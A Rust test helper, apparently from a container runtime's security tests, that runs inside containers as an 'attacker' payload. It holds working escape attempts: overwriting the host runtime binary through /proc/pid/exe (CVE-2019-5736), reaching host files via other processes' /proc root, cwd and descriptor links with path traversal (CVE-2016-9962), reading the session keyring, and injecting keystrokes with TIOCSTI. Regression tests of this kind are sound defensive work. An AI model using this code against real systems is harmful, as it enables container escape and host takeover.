//! What runs inside of containers: this test's own static binary under another name.

use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

/// Tells a payload from a test run; the next argument is the mode.
pub const WORD: &str = "attack-from-inside";

pub fn main(args: &[String]) {
    let rest: Vec<&str> = args[1..].iter().map(String::as_str).collect();
    match args[0].as_str() {
        "exe" => overwrite_executables(),
        "peek" => peek(Path::new(rest[0])),
        "keyring" => session_keyring(),
        "tty" => controlling_terminal(),
        other => panic!("no attack called {other}"),
    }
}

fn pids() -> Vec<u32> {
    let Ok(entries) = fs::read_dir("/proc") else { return Vec::new() };
    entries.flatten().filter_map(|e| e.file_name().to_str()?.parse().ok()).collect()
}

fn report(text: &str) {
    let mut file = OpenOptions::new().append(true).create(true).open("/report").unwrap();
    writeln!(file, "{text}").unwrap();
}

/// Opens every executable that is none of the rootfs', and tries to write to it for as long as we live (CVE-2019-5736).
fn overwrite_executables() {
    let own = [fs::metadata("/attacker").unwrap(), fs::metadata("/bin/busybox").unwrap()];
    let mut caught: Vec<File> = Vec::new();
    loop {
        for pid in pids() {
            let open = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(format!("/proc/{pid}/exe"));
            let Ok(exe) = open else { continue };
            let Ok(meta) = exe.metadata() else { continue };
            let known = own.iter().any(|o| o.ino() == meta.ino() && o.dev() == meta.dev());
            if !known && caught.len() < 16 {
                report("caught");
                caught.push(exe);
            }
        }
        for exe in &caught {
            let path = format!("/proc/self/fd/{}", exe.as_raw_fd());
            if let Ok(mut file) = OpenOptions::new().write(true).open(path) {
                let _ = file.write_all(b"overwritten");
                report("overwritten");
            }
        }
    }
}

/// From a directory to the root of what it is mounted in.
const UP: &str = "../../../../../../../../../../../..";

/// Looks for a file of the host through every process that appears (CVE-2016-9962).
fn peek(canary: &Path) {
    let relative = canary.strip_prefix("/").unwrap();
    let seen = |how: String, base: PathBuf| {
        if fs::read(base.join(relative)).is_ok_and(|content| content == b"of the host") {
            report(&how);
        }
    };
    loop {
        for pid in pids().into_iter().filter(|pid| *pid != 1) {
            seen(format!("/proc/{pid}/root"), format!("/proc/{pid}/root").into());
            seen(format!("/proc/{pid}/cwd"), format!("/proc/{pid}/cwd").into());
            let Ok(fds) = fs::read_dir(format!("/proc/{pid}/fd")) else { continue };
            for fd in fds.flatten() {
                seen(format!("descriptor {:?}", fs::read_link(fd.path())), fd.path());
                seen(format!("above {:?}", fs::read_link(fd.path())), fd.path().join(UP));
                seen(format!("procfs {:?}", fs::read_link(fd.path())), fd.path().join("1/root"));
            }
        }
    }
}

/// Prints the description of the session keyring.
fn session_keyring() {
    const DESCRIBE: libc::c_long = 6;
    const SESSION: libc::c_long = -3;
    let mut text = [0u8; 256];
    // SAFETY: keyctl(2) writes at most the given length to the buffer.
    let len = unsafe { libc::syscall(libc::SYS_keyctl, DESCRIBE, SESSION, text.as_mut_ptr(), text.len()) };
    println!("{}", String::from_utf8_lossy(&text[..len.max(0) as usize]));
}

/// Says whether what is typed at somebody else's terminal could be ours.
fn controlling_terminal() {
    if File::open("/dev/tty").is_ok() {
        println!("has a controlling terminal");
    }
    let byte = b'x';
    // SAFETY: TIOCSTI reads one byte.
    if unsafe { libc::ioctl(0, libc::TIOCSTI, std::ptr::from_ref(&byte)) } == 0 {
        println!("typed");
    }
}

/// Runs a command as the leader of a session whose controlling terminal is its standard input; gives what it printed.
pub fn in_a_terminal(make: impl FnOnce(&mut std::process::Command)) -> String {
    use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
    use std::os::unix::process::CommandExt;
    let master = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
    grantpt(&master).unwrap();
    unlockpt(&master).unwrap();
    let name = ptsname(&master, Vec::new()).unwrap().into_string().unwrap();
    let slave = OpenOptions::new().read(true).write(true).custom_flags(libc::O_NOCTTY).open(name).unwrap();
    let mut command = std::process::Command::new("");
    make(&mut command);
    command.stdin(slave).stdout(std::process::Stdio::piped());
    // SAFETY: setsid(2) and ioctl(2) are system calls.
    unsafe {
        command.pre_exec(|| {
            if libc::setsid() < 0 || libc::ioctl(0, libc::TIOCSCTTY, 0) < 0 {
                return Err(std::io::Error::last_os_error());
            }
            Ok(())
        });
    }
    let done = command.output().unwrap();
    format!("{}{}", String::from_utf8_lossy(&done.stdout), String::from_utf8_lossy(&done.stderr))
}
